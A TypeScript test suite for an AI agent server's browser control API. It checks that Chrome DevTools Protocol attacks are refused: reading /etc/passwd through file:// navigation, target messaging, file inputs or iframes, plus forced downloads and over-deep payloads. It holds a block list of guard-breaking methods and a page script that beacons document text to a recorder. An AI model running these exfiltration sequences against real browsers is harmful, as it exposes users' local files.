import { existsSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { Writable } from "node:stream";
import { chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ConfigError } from "../../src/config/schema.js";
import { makeAgentApp, type AgentApp } from "../fixtures/agent-harness.js";
import {
  browserPageUrls,
  cdp,
  createSession,
  evaluate,
  navigate,
  snapshot,
  startChromiumWithCdp,
  waitFor,
  type ApiCaller,
  type ChromiumProcess,
} from "../fixtures/browser.js";
import { startFakeModel, type FakeModelServer, type RecordedRequest } from "../fixtures/fake-model.js";
import {
  DOWNLOAD_CONTENT,
  DOWNLOAD_FILENAME,
  startPagesServer,
  startRequestRecorder,
  type PagesServer,
  type RequestRecorder,
} from "../fixtures/pages-server.js";
import { json } from "../fixtures/responses.js";
import { makeTestApp, tempDir, type TestApp } from "../fixtures/test-app.js";

/** The first line of /etc/passwd on any Linux: if it ever comes back, the browser read the server's disk. */
const PASSWD_LINE = "root:x:0:0";
const PASSWD_URL = "file:///etc/passwd";
/** After an attack that should have no effect, how long to give a download or a popup to show up anyway. */
const ABSENCE_SETTLE_MS = 1_500;
/** How long a tab made by Target.createTarget takes to settle on its first document. */
const NEW_TAB_SETTLE_MS = 400;
/** Control attacks on an http page before the channel is taken to work, and how long each waits for its beacon. */
const CONTROL_ATTEMPTS = 3;
const CONTROL_WAIT_MS = 8_000;

type Problem = {
  status: number;
  code: string;
  detail: string;
  errors: Array<{ location: string; message: string }>;
  hint?: string;
};
type CdpAnswer<T> = { method: string; result: T };
type RunAnswer = { run: { status: string }; messages: Array<{ role: string; name?: string; content: string }> };

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Folders the attacks name as download targets, removed after the run (each must stay empty until then). */
const attackDirs: string[] = [];
function attackDir(prefix: string): string {
  const dir = tempDir(prefix);
  attackDirs.push(dir);
  return dir;
}
afterAll(() => {
  for (const dir of attackDirs) rmSync(dir, { recursive: true, force: true });
});

/** Every file under `root` (bounded depth), skipping what cannot be read. */
function filesUnder(root: string, depth = 6): string[] {
  if (depth < 0 || !existsSync(root)) return [];
  let entries: string[];
  try {
    entries = readdirSync(root);
  } catch {
    return [];
  }
  return entries.flatMap((name) => {
    const path = join(root, name);
    try {
      return statSync(path).isDirectory() ? filesUnder(path, depth - 1) : [path];
    } catch {
      return [];
    }
  });
}

/** Files that are the fixture's download, by name or by content (playwright names its downloads by GUID). */
function downloadedCopies(roots: string[]): string[] {
  return roots.flatMap((root) =>
    filesUnder(root).filter((path) => {
      if (path.includes(DOWNLOAD_FILENAME)) return true;
      try {
        return statSync(path).size < 1_000_000 && readFileSync(path, "utf8").includes(DOWNLOAD_CONTENT);
      } catch {
        return false;
      }
    }),
  );
}

/** Where a download could land without a folder of its own: playwright's artifact folders and the user's Downloads. */
function defaultDownloadRoots(): string[] {
  const artifacts = readdirSync(tmpdir())
    .filter((name) => name.startsWith("playwright-artifacts-"))
    .map((name) => join(tmpdir(), name));
  return [...artifacts, join(homedir(), "Downloads")];
}

/** Nothing the API shows of the page (evaluate results, snapshot url, title, frame tree, console) holds the file. */
async function expectPasswdNeverShown(t: ApiCaller, id: string): Promise<void> {
  const page = await evaluate(t, id, "[location.href, document.title, document.documentElement.outerHTML].join('\\n')");
  expect(JSON.stringify(page)).not.toContain(PASSWD_LINE);
  const snap = await snapshot(t, id);
  expect(JSON.stringify(snap)).not.toContain(PASSWD_LINE);
  expect(snap.url ?? "").not.toMatch(/^file:/);
  expect(snap.frame_tree.top?.url ?? "").not.toMatch(/^file:/);
  expect(snap.frame_tree.children.map((c) => c.url).filter((url) => url.startsWith("file:"))).toEqual([]);
}

/** What a refusal looks like: 403, the method named in detail and errors, and the operator's way out. */
async function expectRefused(res: Response, method: string): Promise<void> {
  const problem = (await res.json()) as Problem;
  expect(res.status, JSON.stringify(problem)).toBe(403);
  expect(problem.code).toBe("cdp_method_not_allowed");
  expect(problem.detail).toContain(`CDP method ${method} is not allowed`);
  expect(problem.errors).toHaveLength(1);
  expect(problem.errors[0]?.location).toBe("body.method");
  expect(problem.errors[0]?.message).toContain(method);
  expect(problem.hint).toContain("browser.cdp_allow");
}

/** The methods that get around the browser's guards: a refusal must never suggest allowing them. */
const GUARD_BREAKING = [
  "Target.attachToTarget",
  "Target.sendMessageToTarget",
  "Target.attachToBrowserTarget",
  "Target.exposeDevToolsProtocol",
  "Target.setAutoAttach",
  "Browser.setDownloadBehavior",
];

/** Keeps the app's pino lines, to read what it logged. */
class LogSink extends Writable {
  text = "";
  override _write(chunk: Buffer | string, _encoding: BufferEncoding, done: (error?: Error | null) => void): void {
    this.text += chunk.toString();
    done();
  }
  lines(): Array<{ level: number; msg: string; [key: string]: unknown }> {
    return this.text
      .split("\n")
      .filter((line) => line.trim() !== "")
      .map((line) => JSON.parse(line) as { level: number; msg: string });
  }
}

/** `{"a":{"a":{}}}` nested `depth` levels, as JSON text: serializing that deep an object overflows the test's stack. */
const nestedJson = (depth: number) => `${'{"a":'.repeat(depth)}{}${"}".repeat(depth)}`;

describe("browser/cdp attacks with the default allowlist", () => {
  let t: TestApp;
  let pages: PagesServer;
  let id: string;

  beforeAll(async () => {
    t = await makeTestApp();
    pages = await startPagesServer();
    id = await createSession(t);
  });
  afterAll(async () => {
    await t.close();
    await pages.close();
  });

  it("refuses Target.attachToTarget and Target.sendMessageToTarget before a browser is even started", async () => {
    await expectRefused(
      await cdp(t, id, "Target.attachToTarget", { targetId: "page", flatten: false }),
      "Target.attachToTarget",
    );
    const message = JSON.stringify({ id: 1, method: "Page.navigate", params: { url: PASSWD_URL } });
    await expectRefused(
      await cdp(t, id, "Target.sendMessageToTarget", { sessionId: "s", message }),
      "Target.sendMessageToTarget",
    );
    expect((await snapshot(t, id)).active).toBe(false);
    expect(t.app.services.supervisors.get(id)).toBeUndefined();
  });

  it("refuses the same messaging on a running browser, and the file never opens", async () => {
    await navigate(t, id, pages.url("localhost", "/plain"));
    // The page's real target id, as the attack used it (Target.getTargetInfo itself is refused now).
    const { targetInfo } = await t.app.services.supervisors.get(id)!.topSession().cdp.send("Target.getTargetInfo");
    await expectRefused(
      await cdp(t, id, "Target.attachToTarget", { targetId: targetInfo.targetId, flatten: false }),
      "Target.attachToTarget",
    );
    const message = JSON.stringify({ id: 1, method: "Page.navigate", params: { url: PASSWD_URL } });
    await expectRefused(
      await cdp(t, id, "Target.sendMessageToTarget", { sessionId: "s", message }),
      "Target.sendMessageToTarget",
    );
    await expectPasswdNeverShown(t, id);
    expect((await evaluate(t, id, "location.href")).result).toBe(pages.url("localhost", "/plain"));
  });

  it("refuses Target.createTarget on a file URL and no target ever shows the file", async () => {
    await expectRefused(await cdp(t, id, "Target.createTarget", { url: PASSWD_URL }), "Target.createTarget");
    await sleep(ABSENCE_SETTLE_MS);
    expect((await browserPageUrls(t, id)).filter((url) => url.startsWith("file:"))).toEqual([]);
  });

  it("refuses CDP Page.navigate to file:// with 400 url_not_allowed and the page stays where it was", async () => {
    const res = await cdp(t, id, "Page.navigate", { url: PASSWD_URL });
    expect(res.status).toBe(400);
    expect(await json<Problem>(res)).toMatchObject({
      code: "url_not_allowed",
      errors: [{ location: "body.params.url" }],
    });
    expect((await evaluate(t, id, "location.href")).result).toBe(pages.url("localhost", "/plain"));
    await expectPasswdNeverShown(t, id);
  });

  it("refuses DOM.setFileInputFiles and the file input stays empty", async () => {
    await navigate(t, id, pages.url("localhost", "/file-input"));
    const doc = (await (await cdp(t, id, "DOM.getDocument")).json()) as CdpAnswer<{ root: { nodeId: number } }>;
    const selector = { nodeId: doc.result.root.nodeId, selector: "#upload" };
    const found = (await (await cdp(t, id, "DOM.querySelector", selector)).json()) as CdpAnswer<{ nodeId: number }>;
    expect(found.result.nodeId).toBeGreaterThan(0);
    await expectRefused(
      await cdp(t, id, "DOM.setFileInputFiles", { files: ["/etc/passwd"], nodeId: found.result.nodeId }),
      "DOM.setFileInputFiles",
    );
    expect((await evaluate(t, id, "document.getElementById('upload').files.length")).result).toBe(0);
  });

  it("refuses Page/Browser.setDownloadBehavior: the folder is never created, a download writes nothing", async () => {
    for (const method of ["Page.setDownloadBehavior", "Browser.setDownloadBehavior"]) {
      const target = join(attackDir("caduceus-download-attack-"), "created-by-the-browser");
      await expectRefused(await cdp(t, id, method, { behavior: "allow", downloadPath: target }), method);
      await navigate(t, id, pages.url("localhost", "/download"));
      await evaluate(t, id, "document.getElementById('download-link').click(), true");
      await sleep(ABSENCE_SETTLE_MS);
      expect(existsSync(target), `${method} created ${target}`).toBe(false);
      expect(downloadedCopies([target, t.dir, ...defaultDownloadRoots()])).toEqual([]);
    }
  });

  it("writes nothing for a download link clicked by the page, anywhere", async () => {
    await navigate(t, id, pages.url("127.0.0.1", "/download"));
    await evaluate(t, id, "document.getElementById('download-link').click(), true");
    await sleep(ABSENCE_SETTLE_MS);
    expect(downloadedCopies([t.dir, ...defaultDownloadRoots()])).toEqual([]);
    expect(existsSync(join(t.dir, "downloads"))).toBe(false);
  });

  it("does not follow a redirect to file://", async () => {
    const requested = pages.url("localhost", "/redirect-to-file");
    const res = await t.call("POST", `/v1/sessions/${id}/browser/navigate`, { url: requested });
    expect(res.status).toBe(502);
    expect(await json<Problem & { requested_url: string }>(res)).toMatchObject({
      code: "navigation_failed",
      requested_url: requested,
    });
    await expectPasswdNeverShown(t, id);
  });

  it("does not let window.open (on load or from a click) or a link click open file://", async () => {
    await navigate(t, id, pages.url("localhost", "/open-file-popup"));
    await evaluate(t, id, "document.getElementById('open').click(), true");
    await sleep(ABSENCE_SETTLE_MS);
    expect((await evaluate(t, id, "window.__answers")).result).toHaveLength(2);
    expect((await browserPageUrls(t, id)).filter((url) => url.startsWith("file:"))).toEqual([]);
    await expectPasswdNeverShown(t, id);

    await navigate(t, id, pages.url("localhost", "/file-link"));
    await evaluate(t, id, "document.getElementById('file-link').click(), true");
    await sleep(ABSENCE_SETTLE_MS);
    expect((await browserPageUrls(t, id)).filter((url) => url.startsWith("file:"))).toEqual([]);
    await expectPasswdNeverShown(t, id);
  });

  it("does not load a file:// iframe", async () => {
    await navigate(t, id, pages.url("localhost", "/file-iframe"));
    await sleep(ABSENCE_SETTLE_MS);
    const inner = await evaluate(
      t,
      id,
      "(() => { try { return document.getElementById('local').contentDocument?.documentElement.outerHTML ?? " +
        "'none'; } catch (e) { return String(e); } })()",
    );
    expect(JSON.stringify(inner)).not.toContain(PASSWD_LINE);
    await expectPasswdNeverShown(t, id);
  });

  it("reports params too deep to send as 400 validation_failed at body.params, not as a CDP failure", async () => {
    for (const depth of [40, 5_000]) {
      const params = `{"expression":"1","returnByValue":true,"extra":${nestedJson(depth)}}`;
      const body = `{"method":"Runtime.evaluate","params":${params}}`;
      const res = await t.call("POST", `/v1/sessions/${id}/browser/cdp`, body);
      const problem = (await res.json()) as Problem;
      expect(res.status, `depth ${depth}: ${JSON.stringify(problem)}`).toBe(400);
      expect(problem.code).toBe("validation_failed");
      expect(problem.errors[0].location).toMatch(/^body\.params/);
      expect(problem.detail).not.toMatch(/CDP .* failed|Maximum call stack/);
    }
    const fine = await cdp(t, id, "Runtime.evaluate", {
      expression: "1 + 1",
      returnByValue: true,
      extra: JSON.parse(nestedJson(10)),
    });
    expect(fine.status).toBe(200);
  });

  it("never suggests allowing a method that gets around the guards, nor a Target.* or Browser.* wildcard", async () => {
    for (const method of GUARD_BREAKING) {
      const res = await cdp(t, id, method, {});
      const problem = (await res.clone().json()) as Problem;
      await expectRefused(res, method);
      expect(problem.hint, method).toContain(`${method} is refused because it would get around the browser's guards`);
      expect(problem.hint, method).toContain("allowing it in browser.cdp_allow voids them");
      expect(problem.hint, method).not.toContain(`adding "${method}"`);
      expect(problem.hint, method).not.toMatch(/"(Target|Browser)\.\*"/);
    }
    // A method that cannot get around them may be suggested, but not its domain's wildcard.
    for (const method of ["Target.createTarget", "Browser.getVersion"]) {
      const problem = (await (await cdp(t, id, method, {})).json()) as Problem;
      expect(problem.hint, method).toContain(`adding "${method}" to browser.cdp_allow`);
      expect(problem.hint, method).not.toMatch(/"(Target|Browser)\.\*"/);
    }
    // A domain with no such method keeps its wildcard in the hint.
    const storage = (await (await cdp(t, id, "Storage.getCookies", {})).json()) as Problem;
    expect(storage.hint).toContain(`adding "Storage.getCookies" (or "Storage.*")`);
  });

  it("still runs what a page agent needs", async () => {
    await navigate(t, id, pages.url("localhost", "/plain"));
    for (const [method, params] of [
      ["Runtime.evaluate", { expression: "document.title", returnByValue: true }],
      ["DOM.getDocument", {}],
      ["Accessibility.getFullAXTree", {}],
      ["Page.getFrameTree", {}],
      ["Page.getLayoutMetrics", {}],
      ["Network.getCookies", {}],
      ["Emulation.setTimezoneOverride", { timezoneId: "Europe/Paris" }],
      ["Input.insertText", { text: "" }],
      ["Performance.getMetrics", {}],
    ] as const) {
      const res = await cdp(t, id, method, params);
      expect(res.status, `${method}: ${await res.clone().text()}`).toBe(200);
    }
  });
});

describe("the operator's browser.cdp_allow", () => {
  let t: TestApp;
  let pages: PagesServer;
  let id: string;

  beforeAll(async () => {
    t = await makeTestApp({
      browser: {
        cdp_allow: [
          "Browser.getVersion",
          "Storage.*",
          "Target.getTargetInfo",
          "Target.attachToTarget",
          "Target.sendMessageToTarget",
        ],
      },
    });
    pages = await startPagesServer();
    id = await createSession(t);
    await navigate(t, id, pages.url("localhost", "/plain"));
  });
  afterAll(async () => {
    await t.close();
    await pages.close();
  });

  it("adds the methods it names, and a Domain.* entry adds its whole domain, nothing more", async () => {
    const version = await cdp(t, id, "Browser.getVersion");
    expect(version.status).toBe(200);
    expect(((await version.json()) as CdpAnswer<{ product: string }>).result.product).toMatch(/Chrome/);
    expect((await cdp(t, id, "Storage.getCookies")).status).toBe(200);
    await expectRefused(
      await cdp(t, id, "Browser.setDownloadBehavior", {
        behavior: "allow",
        downloadPath: attackDir("caduceus-allow-attack-"),
      }),
      "Browser.setDownloadBehavior",
    );
    await expectRefused(await cdp(t, id, "Target.createTarget", { url: "about:blank" }), "Target.createTarget");
  });

  it("with Target messaging allowed, the browser itself still refuses file:// and chrome:// documents", async () => {
    const info = (await (await cdp(t, id, "Target.getTargetInfo")).json()) as CdpAnswer<{
      targetInfo: { targetId: string };
    }>;
    const attached = await cdp(t, id, "Target.attachToTarget", {
      targetId: info.result.targetInfo.targetId,
      flatten: false,
    });
    expect(attached.status).toBe(200);
    const { sessionId } = ((await attached.json()) as CdpAnswer<{ sessionId: string }>).result;
    for (const url of [PASSWD_URL, "chrome://version"]) {
      const message = JSON.stringify({ id: 1, method: "Page.navigate", params: { url } });
      expect((await cdp(t, id, "Target.sendMessageToTarget", { sessionId, message })).status).toBe(200);
      await sleep(ABSENCE_SETTLE_MS);
      await expectPasswdNeverShown(t, id);
      const where = (await snapshot(t, id)).url ?? "";
      expect(where, `after ${url}`).not.toMatch(/^(file|chrome):/);
      const shown = await evaluate(t, id, "document.documentElement.outerHTML");
      expect(JSON.stringify(shown)).not.toMatch(/root:x:0:0|Chromium Authors/);
    }
    // The refusal reaches the console when Chromium reports it, which can trail the navigation on a loaded machine.
    await waitFor(
      async () => (await snapshot(t, id)).console.some((entry) => entry.text.includes("blocked file:///etc/passwd")),
      "the refusal of file:///etc/passwd in the console",
    );

    const createMessage = JSON.stringify({ id: 2, method: "Target.createTarget", params: { url: PASSWD_URL } });
    expect((await cdp(t, id, "Target.sendMessageToTarget", { sessionId, message: createMessage })).status).toBe(200);
    await waitFor(
      async () => !(await browserPageUrls(t, id)).some((url) => url.startsWith("file:")),
      "the file:// target to be closed",
    );
    await sleep(ABSENCE_SETTLE_MS);
    expect((await browserPageUrls(t, id)).filter((url) => url.startsWith("file:"))).toEqual([]);
  });
});

/**
 * The page script of the reviewer's attack: once the document has text, send it out every way a page
 * can — on DOMContentLoaded, on load, and polled every millisecond in case either comes too late.
 */
function beaconScript(recorder: RequestRecorder): string {
  return `(() => {
    const send = (how) => {
      const text = document.documentElement ? document.documentElement.innerText : "";
      if (!text) return false;
      navigator.sendBeacon(${JSON.stringify(recorder.url("/beacon-"))} + how, text);
      fetch(${JSON.stringify(recorder.url("/fetch-"))} + how, { method: "POST", body: text, mode: "no-cors" }).catch(() => {});
      return true;
    };
    document.addEventListener("DOMContentLoaded", () => send("dcl"));
    addEventListener("load", () => send("load"));
    let polls = 0;
    const timer = setInterval(() => { if (send("poll") || ++polls > 2000) clearInterval(timer); }, 1);
  })()`;
}

/** A 200 answer's `result`, or the test fails showing the problem. */
async function resultOf<T>(res: Response): Promise<T> {
  const body = (await res.json()) as CdpAnswer<T> & Problem;
  expect(res.status, JSON.stringify(body)).toBe(200);
  return body.result;
}

/** Everything the recorder got, URL-decoded, so a file's text shows up however it was sent. */
const recorded = (recorder: RequestRecorder) =>
  recorder.hits.map((hit) => `${hit.method} ${decodeURIComponent(hit.url)} ${hit.body}`);

describe("with Target.* in browser.cdp_allow (the operator opted in to Target messaging)", () => {
  const log = new LogSink();
  /** A secret in a blocked URL: the console and the log must show it masked. */
  const SECRET = "sk-proj-Zq8Xw3Rt6Yu1Io4Pa7Sd0Fg";
  let t: TestApp;
  let pages: PagesServer;
  let recorder: RequestRecorder;
  let id: string;

  beforeAll(async () => {
    recorder = await startRequestRecorder();
    t = await makeTestApp(
      { browser: { cdp_allow: ["Target.*"] }, logging: { level: "info" } },
      { logDestination: log },
    );
    pages = await startPagesServer();
    id = await createSession(t);
    await navigate(t, id, pages.url("localhost", "/plain"));
  });
  afterAll(async () => {
    await t.close();
    await pages.close();
    await recorder.close();
  });

  /** The reviewer's sequence: a new tab, a session on it, an init script that beacons its text, then `url`. */
  async function attack(url: string): Promise<string> {
    const { targetId } = await resultOf<{ targetId: string }>(
      await cdp(t, id, "Target.createTarget", { url: "about:blank" }),
    );
    // A script registered while the new tab still commits its first about:blank is lost about half the
    // time (Chromium's doing, with or without our guards): waiting makes every run a real attempt.
    await sleep(NEW_TAB_SETTLE_MS);
    const { sessionId } = await resultOf<{ sessionId: string }>(
      await cdp(t, id, "Target.attachToTarget", { targetId, flatten: false }),
    );
    let messageId = 0;
    const send = async (method: string, params: Record<string, unknown> = {}) =>
      resultOf(
        await cdp(t, id, "Target.sendMessageToTarget", {
          sessionId,
          message: JSON.stringify({ id: ++messageId, method, params }),
        }),
      );
    await send("Page.enable");
    await send("Page.addScriptToEvaluateOnNewDocument", { source: beaconScript(recorder) });
    await send("Page.navigate", { url });
    return targetId;
  }

  it("warns once at start-up that the file:// and download guarantees no longer hold", () => {
    const warnings = log.lines().filter((line) => line.msg.includes("get around the browser's guards"));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatchObject({ level: 40, entries: ["Target.*"] });
    expect(warnings[0]?.msg).toContain("file:// and download guarantees no longer hold");
  });

  it("never delivers /etc/passwd to a listener, in 5 runs of the reviewer's beacon attack", async () => {
    // The same sequence on an http page delivers that page's text: the channel works, so silence means something.
    // Tried up to three times: on a busy machine the new tab can still be committing its first about:blank after the
    // settle time, and the script registered then is lost.
    const beaconed = () => recorded(recorder).some((hit) => hit.includes("hello"));
    for (let attempt = 0; attempt < CONTROL_ATTEMPTS && !beaconed(); attempt++) {
      const control = await attack(pages.url("127.0.0.1", "/plain"));
      await waitFor(beaconed, "the control page's beacon", CONTROL_WAIT_MS).catch(() => undefined);
      await resultOf(await cdp(t, id, "Target.closeTarget", { targetId: control }));
    }
    expect(beaconed(), "the control page's beacon arrived").toBe(true);

    // Five attacks one after the other, then the settle time once: each has had at least that long to deliver.
    for (let attempt = 0; attempt < 5; attempt++) await attack(PASSWD_URL);
    await sleep(ABSENCE_SETTLE_MS);
    expect(recorded(recorder).filter((hit) => hit.includes(PASSWD_LINE))).toEqual([]);
    await waitFor(
      async () => !(await browserPageUrls(t, id)).some((url) => url.startsWith("file:")),
      "the file:// tabs to be closed",
    );
    await expectPasswdNeverShown(t, id);
    const console = (await snapshot(t, id)).console.map((entry) => entry.text);
    expect(console.some((text) => text.includes("blocked file:///etc/passwd"))).toBe(true);
  }, 60_000);

  it("masks a secret in a blocked URL before cutting it, in the console and in the log", async () => {
    await attack(`${PASSWD_URL}?token=${SECRET}`);
    const noted = await waitFor(
      async () => (await snapshot(t, id)).console.find((entry) => entry.text.includes("?token=")),
      "the console note of the blocked URL",
    );
    expect(noted.text).not.toContain(SECRET);
    expect(noted.text).toContain("blocked file:///etc/passwd?token=");
    const logged = log.lines().filter((line) => line.msg === "blocked a forbidden document in the browser");
    expect(logged.some((line) => String(line.url).startsWith("file:///etc/passwd?token="))).toBe(true);
    expect(log.text).not.toContain(SECRET);
  });
});

describe("browser.allow_file_urls: true in the server config", () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await makeTestApp({ browser: { allow_file_urls: true } });
  });
  afterAll(() => t.close());

  it("lets file:// load, in the API and inside the browser, while chrome:// stays refused", async () => {
    const id = await createSession(t);
    expect(await navigate(t, id, PASSWD_URL)).toMatchObject({ ok: true, url: PASSWD_URL });
    expect(JSON.stringify(await evaluate(t, id, "document.body.innerText"))).toContain(PASSWD_LINE);
    const chrome = await t.call("POST", `/v1/sessions/${id}/browser/navigate`, { url: "chrome://version" });
    expect(chrome.status).toBe(400);
    expect(((await chrome.json()) as Problem).code).toBe("url_not_allowed");
  });
});

describe("browser.downloads: true", () => {
  let t: TestApp;
  let pages: PagesServer;

  beforeAll(async () => {
    t = await makeTestApp({ browser: { downloads: true } });
    pages = await startPagesServer();
  });
  afterAll(async () => {
    await t.close();
    await pages.close();
  });

  it("saves a download into <data dir>/downloads/<session id>/ and nowhere else", async () => {
    const id = await createSession(t);
    const other = await createSession(t);
    await navigate(t, id, pages.url("localhost", "/download"));
    await evaluate(t, id, "document.getElementById('download-link').click(), true");
    const saved = join(t.dir, "downloads", id, DOWNLOAD_FILENAME);
    await waitFor(
      () => existsSync(saved) && readFileSync(saved, "utf8") === DOWNLOAD_CONTENT,
      "the download in the session folder",
    );
    await sleep(ABSENCE_SETTLE_MS);
    expect(downloadedCopies([t.dir, ...defaultDownloadRoots()])).toEqual([saved]);
    expect(existsSync(join(t.dir, "downloads", other))).toBe(false);
  });
});

describe("downloads in a browser we connect to", () => {
  let chrome: ChromiumProcess;
  let t: TestApp;
  let pages: PagesServer;

  beforeAll(async () => {
    pages = await startPagesServer();
    chrome = await startChromiumWithCdp();
    t = await makeTestApp({ browser: { cdp_url: chrome.cdpUrl } });
  });
  afterAll(async () => {
    await t.close();
    await chrome.kill();
    await pages.close();
  });

  it("are denied even when whoever set the browser up let it save them into a folder", async () => {
    const preset = attackDir("caduceus-preset-downloads-");
    const setup = await chromium.connectOverCDP(chrome.cdpUrl);
    try {
      const browserSession = await setup.newBrowserCDPSession();
      await browserSession.send("Browser.setDownloadBehavior", { behavior: "allow", downloadPath: preset });
    } finally {
      await setup.close();
    }
    const id = await createSession(t);
    await navigate(t, id, pages.url("localhost", "/download"));
    await evaluate(t, id, "document.getElementById('download-link').click(), true");
    await sleep(ABSENCE_SETTLE_MS);
    expect(downloadedCopies([preset, t.dir, ...defaultDownloadRoots()])).toEqual([]);
  });
});

describe("the browser_cdp tool in an agent run", () => {
  let fake: FakeModelServer;
  let pages: PagesServer;
  let t: AgentApp;

  beforeAll(async () => {
    fake = await startFakeModel();
    pages = await startPagesServer();
    t = await makeAgentApp(fake);
  });
  afterAll(async () => {
    await t.close();
    await fake.close();
    await pages.close();
  });

  it("gets Browser.setDownloadBehavior and too-deep params refused as tool results; nothing is written", async () => {
    const target = join(attackDir("caduceus-tool-attack-"), "downloads-here");
    const toolResults = (request: RecordedRequest) =>
      (request.body as { messages: Array<{ role: string }> }).messages.filter((m) => m.role === "tool");
    fake.respondWith((request) => {
      switch (toolResults(request).length) {
        case 0:
          return {
            tool_calls: [
              {
                id: "dl",
                name: "browser_cdp",
                arguments: {
                  method: "Browser.setDownloadBehavior",
                  params: { behavior: "allow", downloadPath: target },
                },
              },
            ],
          };
        case 1:
          return {
            tool_calls: [
              {
                id: "deep",
                name: "browser_cdp",
                arguments: `{"method":"Runtime.evaluate","params":{"expression":"1","extra":${nestedJson(5_000)}}}`,
              },
            ],
          };
        default:
          return { content: "Refused." };
      }
    });
    const id = await t.createSession();
    const res = await t.call("POST", `/v1/sessions/${id}/messages`, { content: "Save downloads to my folder." });
    expect(res.status).toBe(200);
    const body = (await res.json()) as RunAnswer;
    expect(body.run.status, JSON.stringify(body.run)).toBe("completed");
    const [refused, tooDeep, ...rest] = body.messages.filter((m) => m.role === "tool");
    expect(rest).toEqual([]);
    expect([refused?.name, tooDeep?.name]).toEqual(["browser_cdp", "browser_cdp"]);
    expect(refused?.content).toContain("cdp_method_not_allowed");
    expect(refused?.content).toContain("Browser.setDownloadBehavior");
    expect(refused?.content).toContain("browser.cdp_allow");
    expect(tooDeep?.content).toContain("validation_failed");
    expect(tooDeep?.content).not.toMatch(/Maximum call stack|cdp_command_failed/);
    // Both were refused before any browser started for them.
    expect((await snapshot(t, id)).active).toBe(false);
    expect(existsSync(target)).toBe(false);
  });
});

describe("browser.downloads beside context.plugins_dir", () => {
  it("refuses to start when the downloads folder and the plugins folder overlap", async () => {
    const dir = attackDir("caduceus-plugins-overlap-");
    for (const pluginsDir of [join(dir, "downloads"), dir, join(dir, "downloads", "engines")]) {
      const starting = makeTestApp({ browser: { downloads: true }, context: { plugins_dir: pluginsDir } }, { dir });
      await expect(starting, pluginsDir).rejects.toThrow(ConfigError);
      await expect(starting, pluginsDir).rejects.toThrow(/browser\.downloads.*context\.plugins_dir/);
    }
    // A sibling whose name merely starts the same way is apart; without downloads, any folder is.
    for (const overrides of [
      { browser: { downloads: true }, context: { plugins_dir: join(dir, "downloads-plugins") } },
      { context: { plugins_dir: join(dir, "downloads") } },
    ]) {
      const app = await makeTestApp(overrides, { dir });
      await app.close();
    }
  });
});
